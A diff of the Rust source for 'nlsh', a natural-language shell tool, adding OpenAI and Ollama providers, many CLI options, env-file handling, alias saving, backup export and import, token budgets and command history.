@@ -1,17 +1,30 @@
+use chrono::{Local, TimeZone};
 use clap::{ArgAction, Parser};
-use crossterm::event::{self, Event, KeyCode};
-use crossterm::terminal;
+use crossterm::event::{self, Event, KeyCode, KeyModifiers};
+use crossterm::style::{Print, Stylize};
+use crossterm::terminal::{self, ClearType};
+use crossterm::{cursor, queue};
 use dirs::home_dir;
-use reqwest::blocking::Client;
-use serde::Serialize;
+use nlsh::{
+    GeminiProvider, GenerationOptions, LlmProvider, OllamaProvider, OpenAiProvider, ZaiProvider,
+};
+use serde::{Deserialize, Serialize};
+use std::collections::BTreeMap;
 use std::env;
 use std::fs;
-use std::io::{self, Write};
+use std::io::{self, IsTerminal, Read, Write};
 use std::process::{Command, Stdio};
+use std::sync::atomic::{AtomicBool, Ordering};
+use std::sync::Arc;
+use std::time::{Duration, Instant, SystemTime, UNIX_EPOCH};
 
-const GEMINI_API_URL: &str =
-    "https://generativelanguage.googleapis.com/v1beta/models/gemini-2.5-flash:generateContent";
-const ZAI_API_URL: &str = "https://api.z.ai/api/coding/paas/v4/chat/completions";
+const DEFAULT_OLLAMA_MODEL: &str = "llama3";
+const HISTORY_LIMIT: usize = 20;
+const DEFAULT_TEMPERATURE: f32 = 0.2;
+const DEFAULT_MAX_TOKENS: u32 = 1024;
+const DEFAULT_CACHE_TTL_SECS: u64 = 24 * 60 * 60;
+const RELEASES_URL: &str = "https://api.github.com/repos/talhabw/nlsh/releases/latest";
+const UPDATE_CHECK_INTERVAL_SECS: u64 = 24 * 60 * 60;
 
 #[derive(Parser, Debug)]
 #[command(name = "nlsh", about = "Natural language shell", version)]
@@ -19,37 +32,255 @@ struct Args {
     #[arg(
         short = 'P',
         long = "set-provider",
-        value_parser = ["gemini", "zai"],
-        help = "Set default provider (gemini or zai)"
+        value_parser = ["gemini", "zai", "openai", "ollama"],
+        help = "Set default provider (gemini, zai, openai or ollama)"
     )]
     set_provider: Option<String>,
 
     #[arg(short = 'A', long = "set-api-key", help = "Set API key for provider")]
     set_api_key: Option<String>,
 
+    #[arg(
+        long = "provider",
+        value_parser = parse_provider,
+        help = "Use this provider for this run only"
+    )]
+    provider: Option<Provider>,
+
+    #[arg(long = "model", help = "Use this model for this run only")]
+    model: Option<String>,
+
+    #[arg(
+        long = "compare-prompts",
+        num_args = 2,
+        value_names = ["TEMPLATE_A", "TEMPLATE_B"],
+        help = "Compare two prompt templates ({cwd}, {shell}, {user_input}) for a request"
+    )]
+    compare_prompts: Option<Vec<String>>,
+
+    #[arg(
+        long = "shell-quote",
+        help = "Print the command shell-quoted for eval (e.g. eval \"BUFFER=$(nlsh ...)\") and exit"
+    )]
+    shell_quote: bool,
+
+    #[arg(
+        long = "list-providers",
+        help = "List providers, their API keys and default models"
+    )]
+    list_providers: bool,
+
+    #[arg(
+        long = "bell",
+        help = "Ring the terminal bell when the command is ready"
+    )]
+    bell: bool,
+
+    #[arg(
+        long = "pipe",
+        help = "Print only the bare command, e.g. to pipe into another nlsh call as context"
+    )]
+    pipe: bool,
+
+    #[arg(
+        long = "export",
+        value_name = "FILE",
+        help = "Export config, history and aliases to a file"
+    )]
+    export: Option<String>,
+
+    #[arg(
+        long = "import",
+        value_name = "FILE",
+        help = "Import a file written by --export"
+    )]
+    import: Option<String>,
+
+    #[arg(
+        long = "include-keys",
+        help = "Include API keys in --export instead of redacting them"
+    )]
+    include_keys: bool,
+
+    #[arg(
+        long = "confirm-timeout",
+        value_name = "SECS",
+        value_parser = parse_seconds,
+        help = "Cancel automatically if the confirm key is not pressed in time"
+    )]
+    confirm_timeout: Option<f64>,
+
+    #[arg(
+        long = "explain-errors",
+        help = "Ask the model to explain why the command failed when it exits non-zero"
+    )]
+    explain_errors: bool,
+
+    #[arg(
+        long = "pager",
+        help = "Show commands taller than the terminal in $PAGER (or less) before confirming"
+    )]
+    pager: bool,
+
+    #[arg(
+        long = "shell",
+        help = "Shell used to run the command (defaults to $SHELL)"
+    )]
+    shell: Option<String>,
+
+    #[arg(
+        long = "env",
+        value_name = "KEY=VALUE",
+        value_parser = parse_env_assignment,
+        action = ArgAction::Append,
+        help = "Set an environment variable for the executed command (repeatable)"
+    )]
+    env: Vec<(String, String)>,
+
+    #[arg(
+        long = "budget",
+        value_name = "TOKENS",
+        help = "Set a daily token budget (0 removes it)"
+    )]
+    budget: Option<u64>,
+
+    #[arg(
+        long = "force",
+        help = "Continue even when the daily token budget is exceeded"
+    )]
+    force: bool,
+
+    #[arg(long = "no-route", help = "Ignore the rules in ~/.nlsh/routing.toml")]
+    no_route: bool,
+
+    #[arg(long = "history", help = "Show the last 20 generated commands")]
+    history: bool,
+
+    #[arg(
+        short = 'x',
+        long = "explain",
+        help = "Explain what the command does before asking to run it"
+    )]
+    explain: bool,
+
+    #[arg(
+        short = 'n',
+        long = "num",
+        value_name = "COUNT",
+        default_value_t = 1,
+        value_parser = clap::value_parser!(u32).range(1..=10),
+        help = "Ask for this many candidate commands and pick one"
+    )]
+    num: u32,
+
+    #[arg(
+        long = "dry-run",
+        help = "Print only the generated command and exit without running it"
+    )]
+    dry_run: bool,
+
+    #[arg(
+        long = "repl",
+        help = "Keep prompting for requests until an empty line or EOF"
+    )]
+    repl: bool,
+
+    #[arg(
+        long = "json",
+        help = "Print the prompt, command, provider and model as JSON without running it"
+    )]
+    json: bool,
+
+    #[arg(
+        long = "no-cache",
+        help = "Neither use nor save cached commands for this run"
+    )]
+    no_cache: bool,
+
+    #[arg(long = "clear-cache", help = "Delete all cached commands")]
+    clear_cache: bool,
+
+    #[arg(
+        long = "check",
+        help = "Run shellcheck on the command and show its warnings before confirming"
+    )]
+    check: bool,
+
+    #[arg(
+        short = 'y',
+        long = "yes",
+        conflicts_with_all = ["dry_run", "pipe", "json", "shell_quote"],
+        help = "Run the command without asking for confirmation"
+    )]
+    yes: bool,
+
+    #[arg(
+        long = "from-history",
+        conflicts_with = "prompt",
+        help = "Pick a past prompt from history, edit it and generate a new command"
+    )]
+    from_history: bool,
+
     #[arg(action = ArgAction::Append, trailing_var_arg = true)]
     prompt: Vec<String>,
 }
 
-#[derive(Clone, Copy, Debug)]
+fn parse_seconds(value: &str) -> Result<f64, String> {
+    match value.parse::<f64>() {
+        Ok(secs) if secs.is_finite() && secs > 0.0 => Ok(secs),
+        _ => Err(format!(
+            "expected a positive number of seconds, got {}",
+            value
+        )),
+    }
+}
+
+fn parse_provider(value: &str) -> Result<Provider, String> {
+    Provider::from_str(value).ok_or_else(|| format!("unknown provider: {}", value))
+}
+
+fn parse_env_assignment(value: &str) -> Result<(String, String), String> {
+    let (key, val) = value
+        .split_once('=')
+        .ok_or_else(|| format!("expected KEY=VALUE, got {}", value))?;
+    let mut chars = key.chars();
+    let valid = chars
+        .next()
+        .is_some_and(|c| c.is_ascii_alphabetic() || c == '_')
+        && chars.all(|c| c.is_ascii_alphanumeric() || c == '_');
+    if !valid {
+        return Err(format!("invalid environment variable name: {}", key));
+    }
+    Ok((key.to_string(), val.to_string()))
+}
+
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
 enum Provider {
     Gemini,
     Zai,
+    OpenAi,
+    Ollama,
 }
 
 impl Provider {
+    const ALL: [Provider; 4] = [Self::Gemini, Self::Zai, Self::OpenAi, Self::Ollama];
+
     fn from_str(value: &str) -> Option<Self> {
         match value.to_lowercase().as_str() {
             "gemini" | "google" => Some(Self::Gemini),
             "zai" | "z.ai" | "z-ai" => Some(Self::Zai),
+            "openai" | "gpt" => Some(Self::OpenAi),
+            "ollama" => Some(Self::Ollama),
             _ => None,
         }
     }
 
-    fn env_key(self) -> &'static str {
+    fn env_key(self) -> Option<&'static str> {
         match self {
-            Self::Gemini => "GEMINI_API_KEY",
-            Self::Zai => "ZAI_API_KEY",
+            Self::Gemini => Some("GEMINI_API_KEY"),
+            Self::Zai => Some("ZAI_API_KEY"),
+            Self::OpenAi => Some("OPENAI_API_KEY"),
+            Self::Ollama => None,
         }
     }
 
@@ -57,65 +288,100 @@ impl Provider {
         match self {
             Self::Gemini => "gemini",
             Self::Zai => "zai",
+            Self::OpenAi => "openai",
+            Self::Ollama => "ollama",
         }
     }
-}
-
-#[derive(Serialize)]
-struct GeminiRequest {
-    contents: Vec<GeminiContent>,
-}
 
-#[derive(Serialize)]
-struct GeminiContent {
-    parts: Vec<GeminiPart>,
-}
+    fn default_model(self) -> String {
+        match self {
+            Self::Gemini => "gemini-2.5-flash".to_string(),
+            Self::Zai => "glm-4.5".to_string(),
+            Self::OpenAi => "gpt-4o-mini".to_string(),
+            Self::Ollama => env::var("OLLAMA_MODEL")
+                .ok()
+                .filter(|model| !model.trim().is_empty())
+                .unwrap_or_else(|| DEFAULT_OLLAMA_MODEL.to_string()),
+        }
+    }
 
-#[derive(Serialize)]
-struct GeminiPart {
-    text: String,
-}
+    fn translator(self, model: &str) -> Box<dyn LlmProvider> {
+        let options = generation_options();
+        match self {
+            Self::Gemini => Box::new(GeminiProvider::new(model).with_options(options)),
+            Self::Zai => Box::new(ZaiProvider::new(model).with_options(options)),
+            Self::OpenAi => Box::new(OpenAiProvider::new(model).with_options(options)),
+            Self::Ollama => Box::new(OllamaProvider::new(model).with_options(options)),
+        }
+    }
 
-#[derive(Serialize)]
-struct ZaiRequest {
-    model: String,
-    messages: Vec<ZaiMessage>,
+    fn prompt_hint(self) -> Option<&'static str> {
+        match self {
+            Self::Gemini | Self::OpenAi | Self::Ollama => None,
+            Self::Zai => Some(
+                "Do not include any reasoning, thinking, or commentary; reply with the bare command only.",
+            ),
+        }
+    }
 }
 
-#[derive(Serialize)]
-struct ZaiMessage {
-    role: String,
-    content: String,
+fn nlsh_dir() -> Option<std::path::PathBuf> {
+    let home = home_dir()?;
+    Some(home.join(".nlsh"))
 }
 
 fn env_file_path() -> Option<std::path::PathBuf> {
-    let home = home_dir()?;
-    Some(home.join(".nlsh").join(".env"))
+    Some(nlsh_dir()?.join(".env"))
 }
 
-fn load_env_file() -> io::Result<()> {
-    let Some(path) = env_file_path() else {
-        return Ok(());
-    };
-
+fn load_env_file(path: &std::path::Path) -> io::Result<()> {
     if !path.exists() {
         return Ok(());
     }
 
     let content = fs::read_to_string(path)?;
-    for line in content.lines() {
-        let trimmed = line.trim();
-        if trimmed.is_empty() || trimmed.starts_with('#') {
-            continue;
-        }
-        if let Some((key, value)) = trimmed.split_once('=') {
-            env::set_var(key.trim(), value.trim());
-        }
+    for (key, value) in content.lines().filter_map(parse_env_line) {
+        env::set_var(key, value);
     }
 
     Ok(())
 }
 
+fn parse_env_line(line: &str) -> Option<(&str, &str)> {
+    let trimmed = line.trim_start();
+    if trimmed.starts_with('#') {
+        return None;
+    }
+    let (key, value) = trimmed.split_once('=')?;
+    let key = key.trim();
+    if key.is_empty() {
+        return None;
+    }
+    Some((key, unquote_env_value(value.trim())))
+}
+
+fn is_quoted(value: &str) -> bool {
+    value.len() >= 2
+        && (value.starts_with('"') && value.ends_with('"')
+            || value.starts_with('\'') && value.ends_with('\''))
+}
+
+fn unquote_env_value(value: &str) -> &str {
+    if is_quoted(value) {
+        &value[1..value.len() - 1]
+    } else {
+        value
+    }
+}
+
+fn quote_env_value(value: &str) -> String {
+    if value != value.trim() || is_quoted(value) {
+        format!("'{}'", value)
+    } else {
+        value.to_string()
+    }
+}
+
 fn ensure_env_dir() -> io::Result<()> {
     let Some(path) = env_file_path() else {
         return Ok(());
@@ -126,39 +392,89 @@ fn ensure_env_dir() -> io::Result<()> {
     Ok(())
 }
 
+fn read_env_file(path: &std::path::Path) -> io::Result<BTreeMap<String, String>> {
+    let mut vars = BTreeMap::new();
+    if path.exists() {
+        let content = fs::read_to_string(path)?;
+        for (key, value) in content.lines().filter_map(parse_env_line) {
+            vars.insert(key.to_string(), value.to_string());
+        }
+    }
+    Ok(vars)
+}
+
 fn write_env_var(key: &str, value: &str) -> io::Result<()> {
     ensure_env_dir()?;
-    let Some(path) = env_file_path() else {
-        return Ok(());
-    };
+    match env_file_path() {
+        Some(path) => write_env_file_var(&path, key, value),
+        None => Ok(()),
+    }
+}
 
-    let mut vars = std::collections::BTreeMap::new();
-    if path.exists() {
-        let content = fs::read_to_string(&path)?;
-        for line in content.lines() {
-            if let Some((k, v)) = line.split_once('=') {
-                vars.insert(k.trim().to_string(), v.trim().to_string());
+fn write_env_file_var(path: &std::path::Path, key: &str, value: &str) -> io::Result<()> {
+    if value.contains(['\n', '\r']) {
+        return Err(io::Error::new(
+            io::ErrorKind::InvalidInput,
+            format!("{} cannot contain a line break", key),
+        ));
+    }
+
+    let content = if path.exists() {
+        fs::read_to_string(path)?
+    } else {
+        String::new()
+    };
+    let assignment = format!("{}={}", key, quote_env_value(value));
+    let mut replaced = false;
+    let mut rendered = String::new();
+    for line in content.lines() {
+        if parse_env_line(line).is_some_and(|(k, _)| k == key) {
+            if replaced {
+                continue;
             }
+            replaced = true;
+            rendered.push_str(&assignment);
+        } else {
+            rendered.push_str(line);
         }
+        rendered.push('\n');
     }
-    vars.insert(key.to_string(), value.to_string());
+    if !replaced {
+        rendered.push_str(&assignment);
+        rendered.push('\n');
+    }
+    write_private_file(path, &rendered)
+}
 
-    let mut rendered = String::new();
-    for (k, v) in vars {
-        rendered.push_str(&format!("{}={}\n", k, v));
+fn write_private_file(path: &std::path::Path, content: &str) -> io::Result<()> {
+    let mut options = fs::OpenOptions::new();
+    options.write(true).create(true).truncate(true);
+    #[cfg(unix)]
+    {
+        use std::os::unix::fs::OpenOptionsExt;
+        options.mode(0o600);
     }
-    fs::write(path, rendered)?;
-    Ok(())
+    let mut file = options.open(path)?;
+    #[cfg(unix)]
+    {
+        use std::os::unix::fs::PermissionsExt;
+        file.set_permissions(fs::Permissions::from_mode(0o600))?;
+    }
+    file.write_all(content.as_bytes())
 }
 
+const RC_FILES: [&str; 4] = [".zshrc", ".zprofile", ".bashrc", ".bash_profile"];
+
 fn set_shell_env(key: &str, value: &str) -> io::Result<()> {
-    let rc_files = [".zshrc", ".zprofile", ".bashrc", ".bash_profile"];
+    if cfg!(windows) {
+        return Ok(());
+    }
     let Some(home) = home_dir() else {
         return Ok(());
     };
 
     let export_line = format!("export {}=\"{}\"", key, value);
-    for rc in rc_files.iter() {
+    for rc in RC_FILES.iter() {
         let path = home.join(rc);
         let mut content = String::new();
         if path.exists() {
@@ -176,188 +492,2571 @@ fn set_shell_env(key: &str, value: &str) -> io::Result<()> {
     Ok(())
 }
 
-fn current_provider() -> Provider {
-    if let Ok(value) = env::var("NLSH_PROVIDER") {
-        if let Some(provider) = Provider::from_str(&value) {
-            return provider;
+fn interactive_rc_file() -> Option<std::path::PathBuf> {
+    if cfg!(windows) {
+        return None;
+    }
+    let home = home_dir()?;
+    let shell = env::var("SHELL").unwrap_or_default();
+    if shell.ends_with("zsh") {
+        return Some(home.join(RC_FILES[0]));
+    }
+    let bashrc = home.join(RC_FILES[2]);
+    let bash_profile = home.join(RC_FILES[3]);
+    if !bashrc.exists() && bash_profile.exists() {
+        return Some(bash_profile);
+    }
+    Some(bashrc)
+}
+
+fn single_quote(value: &str) -> String {
+    format!("'{}'", value.replace('\'', "'\\''"))
+}
+
+fn shell_quote(value: &str) -> String {
+    if value.is_empty() {
+        return "''".to_string();
+    }
+    let is_safe = value
+        .chars()
+        .all(|c| c.is_ascii_alphanumeric() || "_@%+=:,./-".contains(c));
+    if is_safe {
+        value.to_string()
+    } else {
+        single_quote(value)
+    }
+}
+
+fn powershell_quote(value: &str) -> String {
+    let mut quoted = String::with_capacity(value.len() + 2);
+    quoted.push('\'');
+    for c in value.chars() {
+        if matches!(c, '\'' | '\u{2018}' | '\u{2019}' | '\u{201a}' | '\u{201b}') {
+            quoted.push(c);
         }
+        quoted.push(c);
     }
-    Provider::Gemini
+    quoted.push('\'');
+    quoted
 }
 
-fn ensure_api_key(provider: Provider) -> Result<String, String> {
-    let key = provider.env_key();
-    match env::var(key) {
-        Ok(value) if !value.trim().is_empty() => Ok(value),
-        _ => Err(format!(
-            "Missing {}. Set one via `nlsh --set-api-key`.",
-            key
-        )),
+fn quote_for_shell(value: &str, shell: &str) -> String {
+    match shell {
+        "powershell" | "pwsh" => powershell_quote(value),
+        _ => shell_quote(value),
     }
 }
 
-fn gemini_request(prompt: &str, api_key: &str) -> Result<String, String> {
-    let client = Client::new();
-    let request = GeminiRequest {
-        contents: vec![GeminiContent {
-            parts: vec![GeminiPart {
-                text: prompt.to_string(),
-            }],
-        }],
+fn is_valid_alias_name(name: &str) -> bool {
+    !name.is_empty()
+        && name
+            .chars()
+            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '_' | '-' | '.'))
+}
+
+fn save_alias(name: &str, command: &str) -> io::Result<Option<(std::path::PathBuf, String)>> {
+    let Some(path) = interactive_rc_file() else {
+        return Ok(None);
     };
 
-    let response = client
-        .post(format!("{}?key={}", GEMINI_API_URL, api_key))
-        .json(&request)
-        .send()
-        .map_err(|err| err.to_string())?;
+    let alias_line = format!("alias {}={}", name, single_quote(command));
+    write_alias_line(&path, name, &alias_line)?;
+    Ok(Some((path, alias_line)))
+}
 
-    let value: serde_json::Value = response.json().map_err(|err| err.to_string())?;
-    let text = value
-        .get("candidates")
-        .and_then(|c| c.get(0))
-        .and_then(|c| c.get("content"))
-        .and_then(|c| c.get("parts"))
-        .and_then(|p| p.get(0))
-        .and_then(|p| p.get("text"))
-        .and_then(|t| t.as_str())
-        .ok_or_else(|| "Gemini response missing content".to_string())?;
-
-    Ok(text.trim().to_string())
-}
-
-fn zai_request(prompt: &str, api_key: &str) -> Result<String, String> {
-    let client = Client::new();
-    let request = ZaiRequest {
-        model: "glm-4.5".to_string(),
-        messages: vec![ZaiMessage {
-            role: "user".to_string(),
-            content: prompt.to_string(),
-        }],
-    };
-
-    let response = client
-        .post(ZAI_API_URL)
-        .bearer_auth(api_key)
-        .json(&request)
-        .send()
-        .map_err(|err| err.to_string())?;
-    let status = response.status();
-    let body = response.text().map_err(|err| err.to_string())?;
-    let value: serde_json::Value =
-        serde_json::from_str(&body).map_err(|err| format!("{}: {}", err, body))?;
-
-    let text = value
-        .get("choices")
-        .and_then(|c| c.get(0))
-        .and_then(|choice| {
-            choice
-                .get("message")
-                .and_then(|m| m.get("content"))
-                .and_then(|t| t.as_str())
-                .or_else(|| choice.get("text").and_then(|t| t.as_str()))
-                .or_else(|| choice.get("content").and_then(|t| t.as_str()))
-        })
-        .ok_or_else(|| format!("z.ai response missing content (status: {})", status))?;
+fn write_alias_line(path: &std::path::Path, name: &str, alias_line: &str) -> io::Result<()> {
+    let mut content = String::new();
+    if path.exists() {
+        content = fs::read_to_string(path)?;
+        content = content
+            .lines()
+            .filter(|line| !line.trim_start().starts_with(&format!("alias {}=", name)))
+            .map(|line| format!("{}\n", line))
+            .collect();
+    }
+    content.push_str(&format!("{}\n", alias_line));
+    fs::write(path, content)
+}
 
-    Ok(text.trim().to_string())
+const REDACTED: &str = "<redacted>";
+
+#[derive(Serialize, Deserialize, Default)]
+struct Backup {
+    env: BTreeMap<String, String>,
+    files: BTreeMap<String, String>,
+    aliases: Vec<String>,
 }
 
-fn build_prompt(user_input: &str, cwd: &str) -> String {
-    format!(
-        "You are a shell command translator. Convert the user's request into a shell command for Linux/zsh.\n\
-Current directory: {cwd}\n\n\
-Rules:\n\
-- Output ONLY the command, nothing else\n\
-- No explanations, no markdown, no backticks\n\
-- If unclear, make a reasonable assumption\n\
-- Prefer simple, common commands\n\n\
-User request: {user_input}",
-        cwd = cwd,
-        user_input = user_input
-    )
+fn read_aliases(rc: Option<&std::path::Path>) -> io::Result<Vec<String>> {
+    let Some(path) = rc.filter(|path| path.exists()) else {
+        return Ok(Vec::new());
+    };
+    let content = fs::read_to_string(path)?;
+    Ok(content
+        .lines()
+        .map(str::trim)
+        .filter(|line| line.starts_with("alias "))
+        .map(str::to_string)
+        .collect())
 }
 
-fn run_command(command: &str) -> io::Result<i32> {
-    let mut child = Command::new("sh")
-        .arg("-c")
-        .arg(command)
-        .stdin(Stdio::inherit())
-        .stdout(Stdio::inherit())
-        .stderr(Stdio::inherit())
-        .spawn()?;
-    let status = child.wait()?;
-    Ok(status.code().unwrap_or(1))
+fn single_quoted_value(quoted: &str) -> Option<String> {
+    let mut value = String::new();
+    let mut rest = quoted.strip_prefix('\'')?;
+    loop {
+        let (part, after) = rest.split_once('\'')?;
+        value.push_str(part);
+        if after.is_empty() {
+            return Some(value);
+        }
+        rest = after.strip_prefix("\\''")?;
+        value.push('\'');
+    }
 }
 
-fn main() -> Result<(), Box<dyn std::error::Error>> {
-    load_env_file().ok();
-    let args = Args::parse();
+fn importable_alias_name(line: &str) -> Option<&str> {
+    if line.contains(['\n', '\r']) {
+        return None;
+    }
+    let (name, value) = line.strip_prefix("alias ")?.split_once('=')?;
+    single_quoted_value(value)?;
+    is_valid_alias_name(name).then_some(name)
+}
 
-    if let Some(provider) = args.set_provider {
-        let provider = Provider::from_str(&provider)
-            .ok_or_else(|| "Provider must be gemini or zai".to_string())?;
-        write_env_var("NLSH_PROVIDER", provider.name())?;
-        set_shell_env("NLSH_PROVIDER", provider.name())?;
-        println!("Default provider set to {}", provider.name());
-        return Ok(());
+fn collect_backup(
+    dir: &std::path::Path,
+    rc: Option<&std::path::Path>,
+    include_keys: bool,
+) -> Result<Backup, String> {
+    let mut backup = Backup {
+        env: read_env_file(&dir.join(".env")).map_err(|err| err.to_string())?,
+        aliases: read_aliases(rc).map_err(|err| err.to_string())?,
+        ..Backup::default()
+    };
+    if !include_keys {
+        for (key, value) in backup.env.iter_mut() {
+            if key.ends_with("_API_KEY") {
+                *value = REDACTED.to_string();
+            }
+        }
     }
 
-    if let Some(api_key) = args.set_api_key {
-        let provider = current_provider();
-        write_env_var(provider.env_key(), &api_key)?;
-        set_shell_env(provider.env_key(), &api_key)?;
-        println!("API key saved for {}", provider.name());
-        return Ok(());
+    if dir.is_dir() {
+        for entry in fs::read_dir(dir).map_err(|err| err.to_string())? {
+            let path = entry.map_err(|err| err.to_string())?.path();
+            let Some(name) = path.file_name().and_then(|n| n.to_str()) else {
+                continue;
+            };
+            if !path.is_file() || name == ".env" {
+                continue;
+            }
+            let content = fs::read_to_string(&path).map_err(|err| format!("{}: {}", name, err))?;
+            backup.files.insert(name.to_string(), content);
+        }
     }
+    Ok(backup)
+}
 
-    if args.prompt.is_empty() {
-        eprintln!("Usage: nlsh <prompt>");
-        return Ok(());
+fn export_backup(file: &str, include_keys: bool) -> Result<(), String> {
+    let dir = nlsh_dir().ok_or_else(|| "Could not locate home directory".to_string())?;
+    let backup = collect_backup(&dir, interactive_rc_file().as_deref(), include_keys)?;
+
+    let rendered = serde_json::to_string_pretty(&backup).map_err(|err| err.to_string())?;
+    if include_keys {
+        write_private_file(file.as_ref(), &rendered)
+    } else {
+        fs::write(file, rendered)
     }
+    .map_err(|err| format!("{}: {}", file, err))?;
 
-    let prompt_input = args.prompt.join(" ");
-    let cwd = env::current_dir()?.display().to_string();
-    let prompt = build_prompt(&prompt_input, &cwd);
+    println!(
+        "Exported {} settings, {} files and {} aliases to {}{}",
+        backup.env.len(),
+        backup.files.len(),
+        backup.aliases.len(),
+        file,
+        if include_keys {
+            ""
+        } else {
+            " (API keys redacted)"
+        }
+    );
+    Ok(())
+}
 
-    let provider = current_provider();
-    let api_key = ensure_api_key(provider).map_err(|err| {
-        println!("{}", err);
-        err
-    })?;
+fn apply_backup(
+    backup: &Backup,
+    dir: &std::path::Path,
+    rc: Option<&std::path::Path>,
+) -> Result<(usize, usize), String> {
+    for name in backup.files.keys() {
+        if name.contains(['/', '\\']) || name == ".." || name == ".env" {
+            return Err(format!("Refusing to import unexpected file name: {}", name));
+        }
+    }
 
-    let command = match provider {
-        Provider::Gemini => gemini_request(&prompt, &api_key),
-        Provider::Zai => zai_request(&prompt, &api_key),
+    fs::create_dir_all(dir).map_err(|err| err.to_string())?;
+    let mut env_count = 0;
+    for (key, value) in backup.env.iter().filter(|(_, v)| v.as_str() != REDACTED) {
+        write_env_file_var(&dir.join(".env"), key, value).map_err(|err| err.to_string())?;
+        env_count += 1;
     }
-    .map_err(|err| {
-        println!("error: {}", err);
-        err
-    })?;
 
-    println!("→ {}", command);
-    print!("[Enter] to run, [Esc] to cancel: ");
-    io::stdout().flush()?;
+    for (name, content) in backup.files.iter() {
+        fs::write(dir.join(name), content).map_err(|err| format!("{}: {}", name, err))?;
+    }
+
+    let existing = read_aliases(rc).map_err(|err| err.to_string())?;
+    let mut alias_count = 0;
+    if let Some(rc) = rc {
+        for line in backup
+            .aliases
+            .iter()
+            .filter(|line| !existing.contains(line))
+        {
+            let Some(name) = importable_alias_name(line) else {
+                eprintln!("Skipping invalid alias: {}", line.escape_debug());
+                continue;
+            };
+            write_alias_line(rc, name, line).map_err(|err| err.to_string())?;
+            alias_count += 1;
+        }
+    }
+    Ok((env_count, alias_count))
+}
+
+fn import_backup(file: &str) -> Result<(), String> {
+    let content = fs::read_to_string(file).map_err(|err| format!("{}: {}", file, err))?;
+    let backup: Backup = serde_json::from_str(&content).map_err(|err| err.to_string())?;
+
+    let dir = nlsh_dir().ok_or_else(|| "Could not locate home directory".to_string())?;
+    let (env_count, alias_count) = apply_backup(&backup, &dir, interactive_rc_file().as_deref())?;
+
+    println!(
+        "Imported {} settings, {} files and {} aliases from {}",
+        env_count,
+        backup.files.len(),
+        alias_count,
+        file
+    );
+    Ok(())
+}
+
+struct RawModeGuard;
+
+impl RawModeGuard {
+    fn enable() -> io::Result<Self> {
+        terminal::enable_raw_mode()?;
+        Ok(Self)
+    }
+}
+
+impl Drop for RawModeGuard {
+    fn drop(&mut self) {
+        terminal::disable_raw_mode().ok();
+    }
+}
+
+fn prompt_line(label: &str, initial: &str) -> io::Result<Option<String>> {
+    let mut line: Vec<char> = initial.chars().collect();
+    let mut cursor = line.len();
+    let label_width = label.chars().count();
+
+    let raw_mode = RawModeGuard::enable()?;
+    let result = loop {
+        let mut stdout = io::stdout();
+        queue!(
+            stdout,
+            cursor::MoveToColumn(0),
+            terminal::Clear(ClearType::UntilNewLine),
+            Print(label),
+            Print(line.iter().collect::<String>()),
+            cursor::MoveToColumn((label_width + cursor) as u16)
+        )?;
+        stdout.flush()?;
 
-    terminal::enable_raw_mode()?;
-    let decision = loop {
         if let Event::Key(key_event) = event::read()? {
             match key_event.code {
-                KeyCode::Enter => break Some(()),
+                KeyCode::Char('c') if key_event.modifiers.contains(KeyModifiers::CONTROL) => {
+                    break None
+                }
+                KeyCode::Enter => break Some(line.iter().collect()),
                 KeyCode::Esc => break None,
+                KeyCode::Backspace if cursor > 0 => {
+                    cursor -= 1;
+                    line.remove(cursor);
+                }
+                KeyCode::Delete if cursor < line.len() => {
+                    line.remove(cursor);
+                }
+                KeyCode::Left => cursor = cursor.saturating_sub(1),
+                KeyCode::Right => cursor = (cursor + 1).min(line.len()),
+                KeyCode::Home => cursor = 0,
+                KeyCode::End => cursor = line.len(),
+                KeyCode::Char(c) => {
+                    line.insert(cursor, c);
+                    cursor += 1;
+                }
                 _ => {}
             }
         }
     };
-    terminal::disable_raw_mode()?;
+    drop(raw_mode);
     println!();
+    Ok(result)
+}
 
-    if decision.is_some() {
-        let code = run_command(&command)?;
-        if code != 0 {
-            std::process::exit(code);
-        }
-    }
+fn env_flag(key: &str) -> bool {
+    env::var(key).is_ok_and(|value| {
+        matches!(
+            value.trim().to_lowercase().as_str(),
+            "1" | "true" | "yes" | "on"
+        )
+    })
+}
 
-    Ok(())
+#[derive(Serialize, Deserialize, Default)]
+struct Budget {
+    daily_limit: Option<u64>,
+    day: String,
+    used: u64,
+}
+
+fn budget_path() -> Option<std::path::PathBuf> {
+    Some(nlsh_dir()?.join("budget.json"))
+}
+
+fn load_budget() -> Budget {
+    let mut budget: Budget = budget_path()
+        .and_then(|path| fs::read_to_string(path).ok())
+        .and_then(|content| serde_json::from_str(&content).ok())
+        .unwrap_or_default();
+    let today = local_date();
+    if budget.day != today {
+        budget.day = today;
+        budget.used = 0;
+    }
+    budget
+}
+
+fn save_budget(budget: &Budget) -> io::Result<()> {
+    ensure_env_dir()?;
+    let Some(path) = budget_path() else {
+        return Ok(());
+    };
+    let rendered = serde_json::to_string_pretty(budget).map_err(io::Error::other)?;
+    fs::write(path, rendered)
+}
+
+fn record_usage(tokens: u64) -> io::Result<()> {
+    let mut budget = load_budget();
+    budget.used += tokens;
+    save_budget(&budget)
+}
+
+fn unix_now() -> u64 {
+    SystemTime::now()
+        .duration_since(UNIX_EPOCH)
+        .map(|duration| duration.as_secs())
+        .unwrap_or(0)
+}
+
+fn local_date() -> String {
+    Local::now().format("%Y-%m-%d").to_string()
+}
+
+fn local_datetime(timestamp: u64) -> String {
+    i64::try_from(timestamp)
+        .ok()
+        .and_then(|timestamp| Local.timestamp_opt(timestamp, 0).single())
+        .map(|time| time.format("%Y-%m-%d %H:%M").to_string())
+        .unwrap_or_default()
+}
+
+#[derive(Serialize, Deserialize, Clone, Copy, Debug)]
+#[serde(rename_all = "lowercase")]
+enum Outcome {
+    Run,
+    Edited,
+    Cancelled,
+    Aliased,
+    Copied,
+    Printed,
+}
+
+impl Outcome {
+    fn name(self) -> &'static str {
+        match self {
+            Self::Run => "run",
+            Self::Edited => "edited",
+            Self::Cancelled => "cancelled",
+            Self::Aliased => "aliased",
+            Self::Copied => "copied",
+            Self::Printed => "printed",
+        }
+    }
+}
+
+#[derive(Serialize, Deserialize)]
+struct HistoryEntry {
+    timestamp: u64,
+    prompt: String,
+    command: String,
+    provider: String,
+    outcome: Outcome,
+}
+
+#[derive(Serialize, Deserialize)]
+struct CacheEntry {
+    timestamp: u64,
+    command: String,
+}
+
+fn cache_dir() -> Option<std::path::PathBuf> {
+    Some(nlsh_dir()?.join("cache"))
+}
+
